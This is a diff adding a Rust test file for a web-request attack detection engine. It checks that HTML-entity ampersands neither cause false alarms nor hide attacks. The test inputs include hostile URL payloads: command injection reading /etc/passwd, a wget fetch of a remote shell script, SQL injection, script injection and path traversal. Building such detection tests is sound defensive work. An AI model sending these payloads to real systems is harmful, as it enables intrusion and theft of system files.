@@ -1,0 +1,203 @@
+//! The engine against the obvious way: every pattern on every view of every part. What nominates patterns may only save
+//! work, never lose one.
+
+#![allow(clippy::unwrap_used, reason = "a test may stop where it stands")]
+
+use std::collections::BTreeSet;
+use std::path::Path;
+use std::sync::Arc;
+
+use patterns::normalise::{self, views};
+use patterns::{Engine, Input, PARANOIA_MAX, Pack, Part, Pattern, View};
+use proptest::prelude::*;
+use rules::{RuleSet, Terms};
+
+fn own_packs(paranoia: u8) -> RuleSet {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/patterns");
+    let mut files: Vec<(String, String)> = std::fs::read_dir(folder)
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .map(|path| (path.display().to_string(), std::fs::read_to_string(&path).unwrap()))
+        .collect();
+    files.sort();
+    let terms = Terms { paranoia, ..Terms::default() };
+    let loaded = rules::load(files.iter().map(|(path, text)| (path.as_str(), text.as_str())), &terms);
+    assert_eq!(loaded.rejected().count(), 0, "{:?}", loaded.diagnostics);
+    loaded.set
+}
+
+fn packs(set: &RuleSet) -> Vec<(u32, Arc<Pack>)> {
+    set.rules.iter().enumerate().filter_map(|(at, rule)| Some((at as u32, Arc::clone(rule.pack.as_ref()?)))).collect()
+}
+
+/// Every part of a text, in every view.
+fn looks(input: Input, text: &str) -> Vec<(Part, View, String)> {
+    let mut found = Vec::new();
+    let mut part = |part: Part, original: &str, plus: bool| {
+        let cased = normalise::decode_cased(original, plus).into_owned();
+        let decoded = normalise::simplify(&cased).into_owned();
+        found.push((part, View::Decoded, decoded.clone()));
+        found.push((part, View::Raw, original.to_ascii_lowercase()));
+        views(&decoded, &mut |view, text| found.push((part, view, text.to_owned())));
+        if part == Part::Path && original.contains('+') {
+            let spaced = decoded.replace('+', " ");
+            found.push((part, View::Decoded, spaced.clone()));
+            views(&spaced, &mut |view, text| found.push((part, view, text.to_owned())));
+        }
+        if matches!(part, Part::Value | Part::Path) && normalise::has_base64(&cased) {
+            let cased = if plus { normalise::decode_cased(original, false).into_owned() } else { cased };
+            normalise::base64(&cased, &mut |hidden| {
+                found.push((part, View::Base64, normalise::decode(hidden, false).into_owned()));
+            });
+        }
+    };
+    if input == Input::Text {
+        part(Part::Text, text, false);
+        return found;
+    }
+    let query = text.find('?').map_or(text.len(), |at| at + 1);
+    let text = &*normalise::plain_ampersands(text, query);
+    let (path, query) = text.split_once('?').map_or((text, None), |(path, query)| (path, Some(query)));
+    part(Part::Target, text, false);
+    part(Part::Path, path, false);
+    if let Some(query) = query {
+        part(Part::Query, query, true);
+        for parameter in query.split('&').filter(|parameter| !parameter.is_empty()) {
+            let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
+            part(Part::Value, value, true);
+            if !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.')) {
+                part(Part::Value, name, true);
+            }
+        }
+    }
+    found
+}
+
+fn obvious(packs: &[(u32, Arc<Pack>)], input: Input, text: &str) -> BTreeSet<u32> {
+    let looks = looks(input, text);
+    let has = |pattern: &Pattern| {
+        looks.iter().any(|(part, view, text)| {
+            let needed = pattern.needs.iter().any(|need| text.contains(need.as_str()));
+            needed && pattern.looks_at(*part, *view) && pattern.find(text, *part).is_some()
+        })
+    };
+    let points =
+        |pack: &Pack| pack.patterns.iter().filter(|pattern| has(pattern)).map(|pattern| pattern.weight).sum::<u32>();
+    packs.iter().filter(|(_, pack)| points(pack) >= pack.threshold).map(|(number, _)| *number).collect()
+}
+
+fn by_engine(engine: &Engine, text: &str) -> BTreeSet<u32> {
+    let mut found = BTreeSet::new();
+    engine.judge(text, &mut engine.scratch(), |number| {
+        found.insert(number);
+    });
+    found
+}
+
+#[test]
+fn every_case_of_every_pattern_is_judged_as_the_obvious_way_does() {
+    let set = own_packs(PARANOIA_MAX);
+    let packs = packs(&set);
+    for input in [Input::Target, Input::Text] {
+        let engine = Engine::new(packs.clone(), input);
+        for case in packs.iter().flat_map(|(_, pack)| &pack.patterns).flat_map(|pattern| &pattern.cases) {
+            let text = &case.text;
+            assert_eq!(by_engine(&engine, text), obvious(&packs, input, text), "{input:?} {text}");
+        }
+    }
+}
+
+/// Ways in which the ampersand between two parameters is written by mistake.
+const ENTITIES: [&str; 7] = ["&amp;", "&AMP;", "&amp;amp;", "&amp%3B", "&amp%3Bamp%3B", "&#38;", "&#x26;"];
+
+#[test]
+fn a_parameter_ends_at_an_entity_as_at_an_ampersand() {
+    let packs = packs(&own_packs(PARANOIA_MAX));
+    let (engine, referers) = (Engine::new(packs.clone(), Input::Target), Engine::new(packs, Input::Address));
+    for benign in [
+        "/x?a=1&id=33",
+        "/x?a=1&ls=1&ps=2",
+        "/x?id=1&env=test&ver=2&sh=0",
+        "/x?a=1&dir=asc&host=b&cat=5",
+        "/x?page=2&w=100&h=100&id",
+        "/x?a=1&set=2&type=3&test=4&sort=5&",
+        "/x?a=&id=",
+    ] {
+        for entity in ENTITIES {
+            let text = benign.replace('&', entity);
+            assert_eq!(by_engine(&engine, &text), BTreeSet::new(), "{text}");
+            let [referer, plain] = [&text, benign].map(|target| format!("https://www.example.org{target}"));
+            assert_eq!(by_engine(&referers, &referer), by_engine(&referers, &plain), "{referer}");
+            // The first parameter, too: who reads `amp;id` as a name sends it in any order.
+            let text = text.replace('?', &format!("?{}", &entity[1..]));
+            assert_eq!(by_engine(&engine, &text), BTreeSet::new(), "{text}");
+        }
+    }
+}
+
+#[test]
+fn an_attack_behind_an_entity_is_found_as_behind_an_ampersand() {
+    let packs = packs(&own_packs(PARANOIA_MAX));
+    let engine = Engine::new(packs.clone(), Input::Target);
+    for attack in [
+        "/x?a=1&cmd=;cat%20/etc/passwd",
+        "/x?a=1&cmd=%3Bid",
+        "/x?a=1&q=%27%20union%20select%201,2--%20",
+        "/x?a=1&q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/x?a=1&f=../../../../etc/passwd",
+        "/x?a=..&whoami",
+        "/x?a=1&wget%20http://203.0.113.9/x.sh",
+        "/x?a=1&;cat%20/etc/passwd",
+        "/x?a=1&cat%20/etc/passwd=1",
+        "/x?a=1&x;id",
+        "/x?a=1&b=2&(id)=3",
+    ] {
+        let wanted = by_engine(&engine, attack);
+        for entity in ENTITIES {
+            let text = attack.replace('&', entity);
+            let found = by_engine(&engine, &text);
+            assert!(found.is_superset(&wanted) && !found.is_empty(), "{text}: {found:?}, not {wanted:?}");
+        }
+    }
+    // A shell that gets the value whole reads the end of the entity as the end of a command.
+    for attack in [
+        "/x?a=1%26amp;id",
+        "/x?a=1&amp;whoami",
+        "/x?a=1%26amp%3Bcat%20/etc/passwd",
+        "/x?a=1&amp;wget%20http://203.0.113.9/x.sh",
+    ] {
+        assert!(!by_engine(&engine, attack).is_empty(), "{attack}");
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]
+
+    #[test]
+    fn mixtures_of_cases_are_judged_as_the_obvious_way_does(
+        places in prop::collection::vec(0..10_000_usize, 1..4),
+        cut in 0..40_usize,
+        mark in "[&+=?/%;' (<|]{0,2}",
+    ) {
+        thread_local! {
+            static OWN: (Vec<(u32, Arc<Pack>)>, Engine) = {
+                let packs = packs(&own_packs(PARANOIA_MAX));
+                let engine = Engine::new(packs.clone(), Input::Target);
+                (packs, engine)
+            };
+        }
+        OWN.with(|(packs, engine)| {
+            let cases: Vec<&str> = packs
+                .iter()
+                .flat_map(|(_, pack)| &pack.patterns)
+                .flat_map(|pattern| &pattern.cases)
+                .map(|case| case.text.as_str())
+                .collect();
+            let text: String = places.iter().map(|at| cases[at % cases.len()]).collect::<Vec<_>>().join(&mark);
+            let end = (0..=cut.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
+            let text = &text[end..];
+            prop_assert_eq!(by_engine(engine, text), obvious(packs, Input::Target, text), "{}", text);
+            Ok(())
+        })?;
+    }
+}
